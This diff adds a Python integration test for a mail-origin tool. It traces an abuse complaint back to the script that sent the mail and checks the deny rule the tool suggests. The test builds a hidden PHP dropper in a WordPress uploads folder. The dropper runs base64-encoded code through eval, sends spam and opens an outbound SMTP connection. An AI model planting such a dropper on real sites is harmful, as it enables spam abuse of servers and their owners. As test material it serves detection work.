@@ -1,0 +1,79 @@
+"""The incident of docs/incident.md: from a complaint to the script that sent it and the line that stops it."""
+
+import base64
+import os
+
+from harness.command import Command
+from harness.site import SHOP_UID, new_mark
+from harness.waiting import wait_until
+
+MAILS = 20
+CODE = """
+foreach (range(1, {mails}) as $i) $sent = mail("someone$i@example.org", "{mark} $i", "Pay");
+echo $sent ? "sent" : "refused";
+@fsockopen("198.51.100.10", 25, $code, $text, 2);
+"""
+COMPLAINT = """From: feedback@example.org
+To: abuse@shop.example
+Subject: FW: Invoice
+MIME-Version: 1.0
+Content-Type: multipart/report; report-type=feedback-report; boundary="part"
+
+--part
+Content-Type: message/feedback-report
+
+Feedback-Type: abuse
+User-Agent: ExampleFeedback/1.0
+Version: 1
+
+--part
+Content-Type: message/rfc822
+
+{mail}
+--part--
+"""
+
+
+def dropped(shop, mark):
+    """A script that runs what it decodes, where visitors' files are kept."""
+    code = base64.b64encode(CODE.format(mails=MAILS, mark=mark).encode()).decode()
+    script = shop.write("wp-content/uploads/2026/11/wp-info.php", f"<?php eval(base64_decode('{code}'));")
+    os.chown(script.path, SHOP_UID, SHOP_UID)
+    return script
+
+
+def test_from_the_complaint_to_the_cause(host, tmp_path):
+    shop, mark = host.site.shop, new_mark()
+    mailorigin = Command(host.site.installation, host.site.httpd.runtime_dir)
+    script = dropped(shop, mark)
+    assert shop.get(script.uri, timeout=120).text.startswith("sent")
+    host.settled()
+    mails = host.queued(mark)
+    assert len(mails) == MAILS, host.said()
+    complaint = tmp_path / "complaint.eml"
+    complaint.write_text(COMPLAINT.format(mail=next(iter(mails.values()))))
+
+    def traced():
+        said = mailorigin("--json", "trace", str(complaint))
+        report = said.json if said.status == 0 else {}
+        return report if report.get("script", {}).get("hour") == MAILS else None
+
+    report = wait_until(traced, "the mails to be stored", 30)
+    event = report["event"]
+    assert (event["site"], event["entry"]) == (shop.name, str(script.path)) and event["subject"].startswith(mark)
+    expression = str(script.path).replace(".", r"\\.")
+    assert report["advice"][0] == f'MailOriginDenyScript "^{expression}$"'
+
+    def investigated():
+        report = mailorigin("--json", "investigate", str(script.path)).json
+        return report if report["mail"]["events"] == MAILS else None
+
+    report = wait_until(investigated, "the mails to be counted", 30)
+    assert {"eval-decoded", "uploads-directory"} <= set(report["signs"])
+    assert report["requests"]["count"] == 1 and report["mail"]["recipients"] == MAILS
+
+    refused = [entry for entry in shop.json.entries() if entry["kind"] == "smtp" and entry.get("dst") == "198.51.100.10"]
+    assert [(entry["verdict"], entry["entry"]) for entry in refused] == [("deny", str(script.path))]
+    report = wait_until(lambda: mailorigin("--json", "trace", refused[0]["id"]).json, "the connection to be stored")
+    assert report["advice"] == [] and report["delivery"] == []
+    script.path.unlink()
